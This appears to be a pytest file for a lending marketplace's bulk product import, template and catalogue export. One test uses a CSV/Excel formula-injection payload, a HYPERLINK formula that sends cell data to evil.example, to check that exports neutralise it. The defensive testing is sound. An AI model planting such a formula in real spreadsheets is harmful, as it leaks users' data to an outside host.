"""The catalogue downloads as XLSX or CSV; a bank lists many products at once from a filled-in template, good rows
imported and bad rows reported by row number, changing nothing."""

import csv
import io
from decimal import Decimal

import openpyxl
from sqlalchemy import func, select

from marketplace import db
from products.models import Product
from products.sheets import EXPORT_COLUMNS, OPTIONAL, REQUIRED
from tests.pages import csrf_token, sign_in

HEADER = (*REQUIRED, *OPTIONAL[1:])
GOOD = [
    ("Xihu Tech Loan", "credit", 500000, 5000000, 6, 36, 25, "srdi,little_giant", "33", "none", ""),
    ("Binjiang IP Pledge", "ip_pledge", "1000000.00", "20000000.00", 12, 60, -10, "srdi", "3301, 3302", "optional",
     "知识产权质押"),
    ("专精特新续贷", "renewal", 1000000, 10000000, "12", "36", "40", "little_giant", "", "", ""),
]
BAD = [
    ("Upside Down", "credit", 5000000, 500000, 6, 36, 25, "srdi", "", "none", ""),   # min above max
    ("No Such Type", "mortgage", 500000, 5000000, 6, 36, 25, "platinum", "", "none", ""),  # type and tier
]


def xlsx(*rows, header=HEADER) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, content, name="products.xlsx", **query):
    return client.post("/api/v1/products/imports", query_string=query,
                       data={"file": (io.BytesIO(content), name)}, content_type="multipart/form-data")


def product_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(Product.id)))


def test_three_good_and_two_bad_rows_import_three_and_report_two_by_row_number(app, as_role):
    bank = as_role("bank")
    before = product_count(app)

    response = upload(bank, xlsx(GOOD[0], BAD[0], GOOD[1], BAD[1], GOOD[2]))

    assert response.status_code == 200, response.json
    body = response.json
    assert (body["rows_total"], body["rows_ok"], body["rows_failed"]) == (5, 3, 2)
    assert [error["row"] for error in body["errors"]] == [3, 5]  # the header is row 1
    assert "amount_min" in body["errors"][0]["message"]
    assert "product_type" in body["errors"][1]["message"] and "eligible_tiers" in body["errors"][1]["message"]
    assert product_count(app) == before + 3
    made = [bank.get(f"/api/v1/products/{product_id}").json for product_id in body["product_ids"]]
    assert [p["name"] for p in made] == ["Xihu Tech Loan", "Binjiang IP Pledge", "专精特新续贷"]
    assert {p["status"] for p in made} == {"draft"}
    assert made[1]["eligible_regions"] == ["3301", "3302"] and made[1]["rate_spread_bp"] == -10
    assert (made[0]["amount_min"], made[2]["guarantee"]) == ("500000.00", "none")


def test_with_publish_the_good_rows_are_published_at_once(as_role):
    bank = as_role("bank")
    body = upload(bank, xlsx(GOOD[0]), publish="true").json
    assert bank.get(f"/api/v1/products/{body['product_ids'][0]}").json["status"] == "published"
    assert any(p["name"] == "Xihu Tech Loan" for p in as_role("enterprise").get("/api/v1/products").json)


def test_a_csv_imports_the_same_way(as_role):
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, GOOD[0], BAD[0]])
    body = upload(as_role("bank"), ("\ufeff" + out.getvalue()).encode(), name="products.csv").json
    assert (body["rows_ok"], [e["row"] for e in body["errors"]]) == (1, [3])


def test_an_unusable_file_is_422_on_file_and_imports_nothing(app, as_role):
    bank = as_role("bank")
    before = product_count(app)
    for content, name in ((b"not a workbook", "products.xlsx"), (xlsx(GOOD[0]), "products.pdf"),
                          (xlsx(GOOD[0], header=("name", "product_type")), "products.xlsx"), (xlsx(), "p.xlsx")):
        response = upload(bank, content, name)
        assert response.status_code == 422, (name, response.json)
        assert response.json["errors"]["file"]
    assert product_count(app) == before


def test_only_banks_import_and_the_same_key_replays_the_import(app, as_role):
    assert upload(as_role("enterprise"), xlsx(GOOD[0])).status_code == 403
    bank = as_role("bank")
    before = product_count(app)
    content = xlsx(GOOD[0], GOOD[1])
    first = bank.post("/api/v1/products/imports", data={"file": (io.BytesIO(content), "p.xlsx")},
                      headers={"Idempotency-Key": "import-1"}, content_type="multipart/form-data")
    again = bank.post("/api/v1/products/imports", data={"file": (io.BytesIO(content), "p.xlsx")},
                      headers={"Idempotency-Key": "import-1"}, content_type="multipart/form-data")
    assert first.status_code == again.status_code == 200
    assert again.headers.get("Idempotent-Replayed") == "true" and again.json == first.json
    assert product_count(app) == before + 2
    other = bank.post("/api/v1/products/imports", data={"file": (io.BytesIO(xlsx(GOOD[2])), "p.xlsx")},
                      headers={"Idempotency-Key": "import-1"}, content_type="multipart/form-data")
    assert other.status_code == 409 and "Idempotency-Key" in other.json["errors"]  # same key, another file
    assert product_count(app) == before + 2
    # The same key and file with another query (?publish=true) is another request: 409, nothing published.
    published = bank.post("/api/v1/products/imports", query_string={"publish": "true"},
                          data={"file": (io.BytesIO(content), "p.xlsx")}, headers={"Idempotency-Key": "import-1"},
                          content_type="multipart/form-data")
    assert published.status_code == 409 and "Idempotency-Key" in published.json["errors"]
    assert product_count(app) == before + 2
    assert bank.get("/api/v1/products", query_string={"status": "published"}).json == []


def test_the_templates_example_row_is_marked_and_never_imported(as_role):
    """Issue 22: a template uploaded with its example still in it listed the example as a product."""
    bank = as_role("bank")
    template = bank.get("/api/v1/products/import-template")
    assert template.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(template.data))
    header, example = list(workbook.active.values)
    assert header == HEADER and example[0].startswith("【示例】")
    as_is = upload(bank, template.data)
    assert as_is.status_code == 422 and "only the template's example row" in as_is.json["errors"]["file"][0]

    workbook.active.append(("Filled-in Loan", "credit", "600000.00", "6000000.00", 6, 24, 35, "srdi", "33", "none",
                            ""))
    filled = io.BytesIO()
    workbook.save(filled)
    answer = upload(bank, filled.getvalue())
    assert (answer.json["rows_total"], answer.json["rows_ok"]) == (1, 1), answer.json
    assert [p["name"] for p in bank.get("/api/v1/products").json] == ["Filled-in Loan"]


def test_the_catalogue_xlsx_and_csv_hold_what_the_list_shows(as_role):
    bank = as_role("bank")
    upload(bank, xlsx(*GOOD), publish="true")
    enterprise = as_role("enterprise")
    listed = enterprise.get("/api/v1/products", query_string={"page_size": 100}).json

    workbook = enterprise.get("/api/v1/products/export", query_string={"format": "xlsx"})
    header, *rows = list(openpyxl.load_workbook(io.BytesIO(workbook.data)).active.values)
    assert header == EXPORT_COLUMNS
    assert [row[0] for row in rows] == [p["id"] for p in listed]
    amount_max = EXPORT_COLUMNS.index("amount_max")
    assert [Decimal(str(row[amount_max])).quantize(Decimal("0.01")) for row in rows] == [
        Decimal(p["amount_max"]) for p in listed]

    ip_only = enterprise.get("/api/v1/products/export", query_string={"product_type": "ip_pledge"})
    header, *rows = csv.reader(io.StringIO(ip_only.data.decode("utf-8-sig")))
    assert [row[EXPORT_COLUMNS.index("name")] for row in rows] == ["Binjiang IP Pledge"]
    assert rows[0][EXPORT_COLUMNS.index("eligible_regions")] == "3301,3302"


def test_the_bank_imports_from_its_page_and_sees_each_bad_row(app, world):
    browser = sign_in(app, world.bank_user)
    assert "/bank/products/import" in browser.get("/bank/products").text
    token = csrf_token(browser.get("/bank/products/import").text)

    page = browser.post("/bank/products/import", data={
        "csrf_token": token, "file": (io.BytesIO(xlsx(GOOD[0], BAD[0], GOOD[1], BAD[1], GOOD[2])), "list.xlsx")},
        content_type="multipart/form-data")

    assert page.status_code == 200
    assert 'data-figure="rows_ok">3<' in page.text and 'data-figure="rows_failed">2<' in page.text
    assert 'data-row="3"' in page.text and 'data-row="5"' in page.text
    nothing = browser.post("/bank/products/import", data={"csrf_token": token}, content_type="multipart/form-data")
    assert nothing.status_code == 422 and 'id="file-error"' in nothing.text
    template = browser.get("/bank/products/import-template.xlsx")
    assert template.status_code == 200 and template.mimetype.endswith("spreadsheetml.sheet")


def test_a_product_named_like_a_formula_exports_as_inert_text(as_role, browser_of, world):
    """Issue 21: a bank names its product as an Excel formula; the catalogue's XLSX holds it as a string cell, and the
    CSV starts it with an apostrophe, in the API's export and on the catalogue pages of enterprises and the admin."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    bank = as_role("bank")
    made = bank.post("/api/v1/products", json={
        "name": name, "product_type": "credit", "amount_min": "500000.00", "amount_max": "5000000.00",
        "term_min_months": 6, "term_max_months": 36, "rate_spread_bp": 25, "eligible_tiers": ["srdi"],
        "guarantee": "none"})
    assert made.status_code == 201, made.json
    assert bank.post(f"/api/v1/products/{made.json['id']}/publish").status_code == 200
    column = EXPORT_COLUMNS.index("name")
    for client, path in ((as_role("enterprise"), "/api/v1/products/export?format=xlsx"),
                         (browser_of(world.enterprise_user), "/products/export.xlsx"),
                         (browser_of(world.admin_user), "/products/export.xlsx")):
        response = client.get(path)
        assert response.status_code == 200, path
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
        (cell,) = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == name]
        assert cell.data_type == "s", path  # text, never a formula
    for client, path in ((as_role("enterprise"), "/api/v1/products/export?format=csv"),
                         (browser_of(world.enterprise_user), "/products/export.csv")):
        _header, *rows = csv.reader(io.StringIO(client.get(path).data.decode("utf-8-sig")))
        assert "'" + name in [row[column] for row in rows], path
